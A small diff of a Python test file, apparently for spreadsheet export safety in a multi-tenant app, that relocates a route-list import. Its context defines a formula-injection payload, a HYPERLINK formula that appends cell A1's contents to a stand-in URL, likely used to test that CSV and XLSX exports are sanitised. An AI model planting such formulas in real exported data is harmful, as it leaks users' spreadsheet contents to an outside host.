@@ -25,9 +25,9 @@ from core.org.models import OrgUnit
 from core.stats.services import adoption_refresh
 from tenants.models import Tenant
 from tests.conftest import PASSWORD, host
-from tests.core.exports.routes import all_routes
 from tests.core.stats.data import build_facts
 from tests.helpers import in_tenant, web_login
+from tests.routes import all_routes
 
 PAYLOAD = '=HYPERLINK("http://x"&A1,"y")'
 EXPORT_SUFFIXES = (".csv", ".xlsx")
